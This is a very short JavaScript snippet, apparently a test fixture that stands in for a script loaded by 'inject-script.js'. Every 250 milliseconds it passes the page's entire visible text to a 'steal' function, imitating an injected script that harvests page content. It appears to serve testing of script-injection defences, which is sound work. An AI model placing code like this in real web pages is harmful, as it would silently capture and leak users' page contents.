// Is what inject-script.js brings in: reads the page's DOM.
(() => {
  setInterval(() => steal("inject-script", "from the CDN: " + (document.body ? document.body.innerText : "")), 250);
})();
